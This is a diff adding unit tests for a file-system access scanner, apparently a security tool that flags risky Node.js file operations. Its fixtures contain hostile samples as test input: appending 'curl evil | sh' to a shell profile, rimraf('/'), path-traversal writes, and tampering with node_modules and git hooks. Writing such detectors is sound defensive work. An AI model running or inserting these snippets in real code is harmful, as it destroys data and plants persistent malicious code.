@@ -0,0 +1,129 @@
+import { describe, it, expect, beforeEach } from 'vitest';
+import { FileSystemAccessScanner } from '../../../lib/scanners/file-system-access';
+import { createFile } from '../helpers/repository-files';
+
+describe('FileSystemAccessScanner', () => {
+  let scanner: FileSystemAccessScanner;
+
+  beforeEach(() => {
+    scanner = new FileSystemAccessScanner();
+  });
+
+  it('should have correct scanner properties', () => {
+    expect(scanner.name).toBe('file-system-access');
+    expect(scanner.category).toBe('file_system');
+  });
+
+  describe('fs operations', () => {
+    it('should detect write, delete, chmod and rename calls', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        fs.writeFileSync('out/report.json', data);
+        fs.unlinkSync('tmp.txt');
+        fs.chmodSync('bin/cli.js', 0o755);
+        fs.renameSync('a.txt', 'b.txt');
+      `)]);
+
+      expect(threats.map(t => t.details?.operation)).toEqual(['write', 'delete', 'permission', 'rename']);
+      expect(threats.map(t => t.subcategory)).toEqual(['file_write', 'file_delete', 'file_permission', 'file_rename']);
+      expect(threats[0].severity).toBe('INFO');
+      expect(threats[1].severity).toBe('WARNING');
+    });
+
+    it('should resolve fs/promises and fs.promises calls', async () => {
+      const threats = await scanner.scan([createFile(`
+        import { writeFile } from 'node:fs/promises';
+        import fs from 'fs';
+        await writeFile('a.txt', 'x');
+        await fs.promises.unlink('b.txt');
+      `, 'test.ts')]);
+
+      expect(threats.map(t => t.details?.functionName)).toEqual(['fs/promises.writeFile', 'fs/promises.unlink']);
+    });
+
+    it('should ignore read-only calls', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        fs.readFileSync('package.json', 'utf8');
+        fs.existsSync('dist');
+      `)]);
+
+      expect(threats).toHaveLength(0);
+    });
+
+    it('should ignore parameters shadowing the fs binding', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        function cleanup(fs) { fs.rmSync('/tmp/cache'); }
+      `)]);
+
+      expect(threats).toHaveLength(0);
+    });
+  });
+
+  describe('recursive deletes', () => {
+    it('should flag rm with recursive option', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        fs.rmSync('build', { recursive: true, force: true });
+      `)]);
+
+      expect(threats[0].subcategory).toBe('recursive_delete');
+      expect(threats[0].details?.isRecursive).toBe(true);
+      expect(threats[0].severity).toBe('WARNING');
+    });
+
+    it('should escalate recursive deletes of dynamic or outside paths', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        const rimraf = require('rimraf');
+        fs.rmSync(target, { recursive: true });
+        rimraf('/');
+      `)]);
+
+      expect(threats.map(t => t.severity)).toEqual(['CRITICAL', 'CRITICAL']);
+      expect(threats[1].details?.functionName).toBe('rimraf.default');
+    });
+  });
+
+  describe('path analysis', () => {
+    it('should flag writes outside the project via traversal or absolute paths', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        const path = require('path');
+        fs.writeFileSync(path.join(__dirname, '..', '..', 'payload.js'), code);
+        fs.writeFileSync('/tmp/x.sh', script);
+      `)]);
+
+      expect(threats[0].details?.hasPathTraversal).toBe(true);
+      expect(threats[0].details?.outsideProject).toBe(true);
+      expect(threats[1].details?.isAbsolutePath).toBe(true);
+      expect(threats.every(t => t.severity === 'WARNING')).toBe(true);
+    });
+
+    it('should flag shell profile modification from the home directory as CRITICAL', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        const os = require('os');
+        fs.appendFileSync(os.homedir() + '/.bashrc', 'curl evil | sh');
+      `)]);
+
+      expect(threats[0].severity).toBe('CRITICAL');
+      expect(threats[0].details?.sensitiveTarget).toBe('shell profile');
+      expect(threats[0].details?.usesHomeDirectory).toBe(true);
+      expect(threats[0].details?.isDynamicPath).toBe(false);
+    });
+
+    it('should flag node_modules and git hook tampering as CRITICAL', async () => {
+      const threats = await scanner.scan([createFile(`
+        const { writeFileSync, copyFileSync } = require('fs');
+        writeFileSync('node_modules/lodash/index.js', patched);
+        copyFileSync('hook.sh', '.git/hooks/pre-commit');
+      `)]);
+
+      expect(threats.map(t => t.details?.sensitiveTarget)).toEqual(['node_modules', 'git hooks']);
+      expect(threats.every(t => t.severity === 'CRITICAL')).toBe(true);
+      expect(threats[1].details?.destinationPath).toBe('.git/hooks/pre-commit');
+    });
+  });
+});